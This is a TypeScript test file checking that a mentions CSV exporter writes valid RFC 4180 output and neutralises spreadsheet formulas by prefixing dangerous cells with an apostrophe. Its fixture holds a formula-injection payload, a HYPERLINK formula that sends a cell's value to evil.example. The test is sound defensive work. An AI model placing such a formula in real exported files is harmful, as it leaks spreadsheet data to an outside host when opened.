import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { exportMentionsCsv, MENTION_COLUMNS } from '../../../main/export/mentions-csv.js';
import { openTestDb } from '../../helpers/db.js';
import { storeTextDocument } from '../../helpers/documents.js';
import { tempDir } from '../../helpers/fixtures.js';

const NASTY_PAGE = [
  '=HYPERLINK("http://evil.example/?leak="&A1) signé par @admin',
  'Budget -5 et +12 sur la ligne "totaux", avec ; et , dans le texte',
  'Une cellule\tavec tabulation\ret retour chariot',
].join('\n');

describe('the mentions CSV', () => {
  const dir = tempDir();
  afterAll(() => dir.cleanup());
  const db = openTestDb();
  storeTextDocument(db, 'piège "quoted";name.pdf', [NASTY_PAGE], [
    { id: 'test.formula', type: 'organisation', pattern: /=HYPERLINK\([^)]*\)/u },
    { id: 'test.at', type: 'person', pattern: /@admin/u },
    { id: 'test.number', type: 'figure', pattern: /[-+]\d+/u },
    { id: 'test.quote', type: 'organisation', pattern: /"totaux", avec ; et ,/u },
    { id: 'test.tab', type: 'organisation', pattern: /\tavec tabulation\ret/u },
  ]);

  for (const [delimiter, bom] of [
    [',', false],
    [';', true],
  ] as const) {
    it(`is valid RFC 4180 with delimiter ${JSON.stringify(delimiter)}${bom ? ' and a BOM' : ''}, and neutralises formulas`, async () => {
      const out = join(dir.path, `mentions-${bom ? 'excel' : 'script'}.csv`);
      const count = await exportMentionsCsv(db, out, { delimiter, bom });
      const raw = readFileSync(out, 'utf8');
      expect(raw.charCodeAt(0) === 0xfeff).toBe(bom);
      const rows = parse(raw, { bom: true, delimiter, columns: true, relax_quotes: false }) as Record<string, string>[];
      expect(rows).toHaveLength(count);
      expect(Object.keys(rows[0] ?? {})).toEqual([...MENTION_COLUMNS]);
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) {
          const dangerous = /^[=+\-@\t\r]/u.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/u.test(cell);
          expect(dangerous, `${column} = ${JSON.stringify(cell)}`).toBe(false);
        }
        expect(row.document).toBe('piège "quoted";name.pdf');
      }
      const formula = rows.find((row) => row.rule === 'test.formula');
      expect(formula?.text).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1)`);
      expect(formula?.context).toBe(`'${NASTY_PAGE.split('\n')[0]}`);
      expect(rows.find((row) => row.rule === 'test.at')?.value).toBe("'@admin");
      expect(rows.filter((row) => row.rule === 'test.number').map((row) => row.value)).toEqual(['-5', '+12']);
      expect(rows.find((row) => row.rule === 'test.tab')?.text).toBe("'\tavec tabulation\ret");
    });
  }
});
